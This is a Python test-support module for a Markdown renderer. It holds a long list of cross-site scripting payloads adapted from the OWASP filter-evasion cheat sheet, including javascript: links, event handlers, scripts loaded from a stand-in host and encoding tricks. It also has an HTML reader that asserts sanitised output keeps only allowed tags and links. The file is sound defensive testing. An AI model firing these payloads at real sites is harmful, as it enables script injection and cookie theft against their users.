"""Markup of strangers, for tests of whatever shows text that people wrote: known attacks, and a reader that takes what may be shown.

A text that is shown never runs, and never loads anything from elsewhere.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

from cinemesh.markdown import ATTRIBUTES, LINK_REL, SCHEMES, TAGS

# after the OWASP cheat sheet "XSS filter evasion", and what Markdown adds to it
ATTACKS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"https://xss.example/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B>&lt;IMG SRC=\"javas<!-- -->cript:alert('XSS')\"&gt;</B></I></XML>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\"></BODY></HTML>",
    "<SCRIPT a=\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&colon;alert(1))",
    "[a](java\\script:alert(1))",
    "[a](java%73cript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](https://e.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://e.example\"onmouseover=\"alert(1))",
    "[a](//evil.example)",
    "[a](/api/v1/users/me/delete)",
    "[a](\\\\evil.example)",
    "[a]:javascript:alert(1)\n\n[a]",
    "[a]: javascript:alert(1)\n[a]",
    "[a]: <javascript:alert(1)> \"x\"\n\n[a][a]",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "![a](javascript:alert(1))",
    "![a](https://tracker.example/pixel.png)",
    "![a\" onerror=\"alert(1)](https://e.example/x.png)",
    "[![a](https://tracker.example/pixel.png)](https://e.example)",
    "![a][b]\n\n[b]: https://tracker.example/pixel.png",
    "```<script>alert(1)</script>\nx\n```",
    "```\" onload=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "* <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "|a|\n|:-:|\n|b|",
    "<div>\n\n*<script>alert(1)</script>*\n\n</div>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<a href=\"https://e.example\" target=_blank style=position:fixed>x</a>",
    "<https://e.example/\"onmouseover=alert(1)>",
    "<https://e.example/<script>alert(1)</script>>",
    "[<script>alert(1)</script>](https://e.example/?q=<script>)",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[a](java\x00script:alert(1))",
    "[a](https://e.example){onclick=alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\\\";alert('XSS');//",
    "<IMG SRC=\"livescript:[code]\">",
    "<LINK REL=\"stylesheet\" HREF=\"https://xss.example/xss.css\">",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=https://;URL=javascript:alert('XSS');\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063ript\\003aalert(1)'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<SCRIPT SRC=\"https://xss.example/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://xss.example/xss.js></SCRIPT>'\"-->",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"></HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" '' SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e \\u003cscript\\u003ealert(1)",
    "&lt &LT; &#60 &#0000060; &#x3c &#X000003C;script&gt;alert(1)",
    "<Img src = x onerror = \"javascript: window.onerror = alert; throw 1\">",
    "<applet code=\"javascript:confirm(document.cookie);\">",
    "<isindex x=\"javascript:\" onmouseover=\"alert(1)\">",
    "\"></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<marquee onstart='javascript:alert&#x28;1&#x29;'>x</marquee>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<p id=main name=main>x</p><a id=who href=cid:javascript:alert(1)>y</a><form id=announce><input name=attributes>",
    "<link rel=prefetch href=https://xss.example/><link rel=dns-prefetch href=//xss.example>",
    "<a href=\"https://e.example\" ping=\"https://xss.example/ping\">x</a>",
    "<img srcset=\"https://xss.example/1.png 1x\"><picture><source srcset=https://xss.example/2.png></picture>",
    "<video poster=https://xss.example/p.png src=https://xss.example/v.mp4 autoplay></video><audio src=https://xss.example/a.mp3 autoplay>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object><portal src=https://xss.example></portal>",
    "<table background=https://xss.example/b.png><td style=\"background:url(https://xss.example/c.png)\">x",
    "<plaintext><xmp><script>alert(1)</script></xmp><listing>",
    "<dialog open oncancel=alert(1)><details ontoggle=alert(1) open><summary>x",
    "[a](feed:javascript:alert(1)) [b](view-source:javascript:alert(1)) [c](jar:javascript:alert(1)!/)",
    "[a](http://javascript:alert(1)@e.example/) [b](https://e.example#\"><script>alert(1)</script>)",
    "[a](http:javascript:alert(1)) [b](https:alert(1))",
    "\u202ejavascript:alert(1)\u202c <\u200bscript>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript> \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)  # fmt: skip
_VOID = {"br", "hr"}


class Reader(HTMLParser):
    """Reads HTML the way a browser begins to, and complains of everything that is not allowed.

    Attributes:
        text: what is shown.
        links: where its links lead.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.links: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Takes a tag and attributes that are allowed."""
        assert tag in TAGS, tag
        for name, value in attrs:
            if tag == "a" and name == "rel":
                assert value == LINK_REL
                continue
            assert name in ATTRIBUTES.get(tag, ()), (tag, name)
            if name == "href":
                assert value is not None and urlsplit(value).scheme in SCHEMES, value
                self.links.append(value)
        if tag == "a":
            assert ("rel", LINK_REL) in attrs
        if tag not in _VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Takes the end of what was begun last."""
        assert self._open and self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        """Takes text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Refuses comments."""
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        """Refuses declarations."""
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        """Refuses processing instructions."""
        raise AssertionError(f"a processing instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        """Refuses sections of other kinds."""
        raise AssertionError(f"a declaration: {data}")


def read_markup(html: str) -> Reader:
    """Reads sanitised HTML.

    Raises:
        AssertionError: something is in it that must not be shown, or left open.
    """
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader._open, "something is left open"
    return reader
